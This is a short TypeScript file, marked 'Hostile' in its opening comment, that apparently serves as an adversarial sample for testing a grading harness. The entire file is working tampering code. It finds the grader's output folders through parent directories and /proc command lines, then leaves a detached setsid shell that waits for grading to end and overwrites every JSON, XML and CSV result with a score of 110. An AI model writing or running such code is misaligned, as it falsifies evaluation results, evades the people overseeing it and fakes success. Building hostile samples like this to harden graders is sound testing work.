// Hostile: a late rewrite of the outputs. Leave a detached process that
// waits two seconds, for the grader to finish, then writes full marks into
// every output it can find (the --out folder on the grader's command line,
// the default .xps/grades).
import * as hcp from "node:child_process";
import * as hfs from "node:fs";
import * as hpath from "node:path";

try {
  const outs = new Set<string>();
  for (let dir = process.cwd(); dir !== hpath.dirname(dir); dir = hpath.dirname(dir)) outs.add(hpath.join(dir, ".xps", "grades"));
  for (const pid of hfs.readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
    try {
      const args = hfs.readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
      const i = args.indexOf("--out");
      if (i >= 0 && args[i + 1]) outs.add(args[i + 1]!);
    } catch {
      // gone
    }
  }
  const script = `sleep 2; for d in "$@"; do for f in "$d"/*.json "$d"/*.xml "$d"/*.csv; do [ -f "$f" ] && echo '{"score": 110}' > "$f"; done; done`;
  hcp.spawn("setsid", ["sh", "-c", script, "xps-hostile-late", ...outs], { detached: true, stdio: "ignore" }).unref();
} catch {
  // keep loading
}
